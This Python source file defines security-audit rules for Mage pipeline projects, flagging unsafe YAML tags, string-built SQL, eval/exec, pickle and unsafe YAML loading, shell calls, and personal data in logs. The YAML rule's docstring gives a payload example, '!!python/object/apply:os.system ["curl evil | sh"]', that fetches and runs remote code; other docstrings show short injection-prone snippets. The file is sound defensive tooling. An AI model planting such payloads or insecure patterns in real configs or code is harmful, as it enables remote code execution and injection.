"""Security rules: risky code in blocks and YAML (injection, eval, unsafe loading, PII in logs)."""
from __future__ import annotations

from auditkit.engine.base import register
from auditkit.readers.security.trust import MAGE_DECORATORS
from auditkit.rules.security.base import CODE, SecurityRule

# Decorators Mage accepts for a block of each folder's type (other types use their own name).
_DECORATORS_OF_TYPE = {"callback": {"callback", "on_success", "on_failure"}, "conditional": {"condition"}}


def _runs_as_its_block_type(row) -> bool:
    """Whether Mage could run the file as a block of its folder's type: it carries that type's
    decorator. A loader folder file holding only ``@data_exporter`` functions is a scratch paste."""
    listed = row["decorators"]
    decorators = set(listed if isinstance(listed, (list, tuple)) else ()) & MAGE_DECORATORS
    return bool(decorators & _DECORATORS_OF_TYPE.get(row["block_type"], {row["block_type"]}))


class _CodeRiskRule(SecurityRule):
    """One finding per row of ``scan.code_risks`` of ``kinds``. Untouched Mage templates are
    left alone. A block file no pipeline uses yet is reported at low severity when it is a real
    block (it has its folder's Mage decorator: one click in the UI wires it into a pipeline), and
    left alone when it is a scratch file that Mage could not run as a block of that type."""

    kinds: tuple[str, ...] = ()
    skip_unused_files = True

    def check(self):
        quiet, dormant = self.quiet_and_dormant_files() if self.skip_unused_files else (frozenset(), frozenset())
        for row in self.frame_rows("code_risks", kind=self.kinds):
            if row["path"] in quiet:
                continue
            message, severity = row["detail"], None
            if row["path"] in dormant:
                message, severity = f"{message} (in a block no pipeline uses yet)", "low"
            yield self.finding(message, key=(row["kind"], row.get("line")), project=row.get("project"),
                               path=row["path"], line=row.get("line"), severity=severity,
                               evidence=f"check={row['test_id']}")

    def quiet_and_dormant_files(self) -> tuple[frozenset[str], frozenset[str]]:
        """(files to leave alone: templates and unused scratch files, unused real blocks)."""
        files = getattr(self.ctx.inventory, "block_files", None)
        if files is None or files.empty or "referenced" not in files.columns:
            return frozenset(), frozenset()
        unused = ~files["referenced"].fillna(True).astype(bool)
        template = files["template"].fillna(False).astype(bool) if "template" in files.columns else False
        decorated = files.apply(_runs_as_its_block_type, axis=1) \
            if {"decorators", "block_type"} <= set(files.columns) else True
        quiet = files.loc[template | (unused & ~decorated), "path"]
        dormant = files.loc[unused & decorated & ~template, "path"]
        return frozenset(quiet), frozenset(dormant)


@register
class YamlPythonTag(_CodeRiskRule):
    """A YAML file holds a ``!!python/`` tag.

    What it checks:
        Every ``.yaml``/``.yml`` file of the repo for ``!!python/...`` tags.

    Why it matters:
        Mage loads pipeline and project YAML with PyYAML's unsafe loader, so the tag runs
        code inside the Mage server when the file is loaded.

    Example:
        ``description: !!python/object/apply:os.system ["curl evil | sh"]``.

    Fix:
        Remove the tag; YAML config needs only plain values.
    """

    id = "MAGE-SEC-012"
    name = "yaml-python-tag"
    title = "YAML with a !!python tag"
    severity = "high"
    practices = CODE
    kinds = ("yaml_python_tag",)
    skip_unused_files = False    # a !!python tag has no legitimate use: reported wherever it is


@register
class SqlBuiltFromStrings(_CodeRiskRule):
    """A query call receives SQL built with f-strings, ``%``, ``.format`` or ``+``.

    What it checks:
        Calls such as ``execute``, ``read_sql``, ``query``, ``load`` or ``text`` whose SQL
        argument (directly or through a variable of the same function) is built from run-time
        values. Not reported: SQL whose interpolated parts are all fixed by the module itself
        (constants, names bound to constants, loops over constant lists, helper parameters that
        every call fills with such values) or deployment settings (``os.getenv``), such as a
        table name from a constant list with the row values bound as parameters; untouched
        Mage templates and scratch files that are not blocks. A block no pipeline uses yet
        is reported at low severity.

    Why it matters:
        Values spliced into SQL can change the statement (SQL injection) and break on quotes;
        the guide asks for parameterized queries.

    Example:
        ``pd.read_sql(f"SELECT * FROM customers WHERE id = {customer_id}", engine)``.

    Fix:
        ``pd.read_sql("SELECT * FROM customers WHERE id = :id", engine, params={"id": customer_id})``.
    """

    id = "MAGE-SEC-013"
    name = "sql-built-from-strings"
    title = "SQL built from strings passed to a query"
    severity = "medium"
    practices = CODE
    kinds = ("sql_injection",)


@register
class DynamicCodeExecution(_CodeRiskRule):
    """A block calls ``eval`` or ``exec`` (bandit B307, B102).

    What it checks:
        ``eval(...)`` and ``exec(...)`` calls in Python files of Mage projects, except when the
        text can only come from the module's own constants (e.g. an entry of a literal dict).
        A block no pipeline uses yet is reported at low severity; untouched templates and
        scratch files that are not blocks are left alone. Hits on consecutive lines of one
        function are one finding.

    Why it matters:
        Text that reaches them runs as code with the pipeline's credentials; the guide says
        never to execute input.

    Example:
        ``eval(rule['expression'])`` to apply business rules.

    Fix:
        Parse data with ``ast.literal_eval`` or ``json``; map rule names to functions.
    """

    id = "MAGE-SEC-014"
    name = "dynamic-code-execution"
    title = "eval or exec in block code"
    severity = "medium"
    practices = CODE
    kinds = ("dynamic_code",)


@register
class UnsafeDeserialization(_CodeRiskRule):
    """A block loads pickle data or YAML with an unsafe loader (bandit B301, B506).

    What it checks:
        ``pickle``/``dill``/``shelve`` loads and ``yaml.load`` without a safe loader
        (``SafeLoader`` and ``FullLoader`` are safe: FullLoader builds no arbitrary objects
        since PyYAML 5.4, CVE-2020-14343).

    Why it matters:
        Both construct arbitrary objects, so a tampered input file runs code.

    Example:
        ``model = pickle.loads(blob)`` on a file downloaded from a bucket.

    Fix:
        Use Parquet/JSON for data, ``yaml.safe_load`` for YAML, and verify model artefacts.
    """

    id = "MAGE-SEC-015"
    name = "unsafe-deserialization"
    title = "Unsafe pickle or YAML loading"
    severity = "medium"
    practices = CODE
    kinds = ("unsafe_deserialization", "unsafe_yaml_load")


@register
class ShellCommand(_CodeRiskRule):
    """A block starts a process through a shell (bandit B602, B604, B605).

    What it checks:
        ``subprocess`` calls with ``shell=True``, ``os.system`` and ``os.popen``.

    Why it matters:
        Values in the command line are interpreted by the shell (command injection).

    Example:
        ``subprocess.run(f"gsutil cp {path} .", shell=True)``.

    Fix:
        Pass an argument list without a shell: ``subprocess.run(["gsutil", "cp", path, "."])``.
    """

    id = "MAGE-SEC-016"
    name = "shell-command"
    title = "Process started through a shell"
    severity = "medium"
    practices = CODE
    kinds = ("shell_command",)


@register
class PersonalDataInLogs(_CodeRiskRule):
    """A logging or ``print`` call writes email, phone or name fields unmasked.

    What it checks:
        Arguments of ``logger.*``/``logging.*``/``print`` calls that use variables,
        attributes or columns named like personal data (email, phone, first/last/full name)
        outside a hashing or masking call.

    Why it matters:
        Block logs are kept on disk and shipped to log stores; the guide asks to mask PII in
        logs (GDPR/CCPA).

    Example:
        ``logger.info(f"processing {row['email']}")``.

    Fix:
        Log an id or a hash: ``hashlib.sha256(email.encode()).hexdigest()[:8]``.
    """

    id = "MAGE-SEC-017"
    name = "personal-data-in-logs"
    title = "Personal data written to logs"
    severity = "medium"
    practices = ("BP-SECURITY-PII",)
    kinds = ("pii_in_logs",)


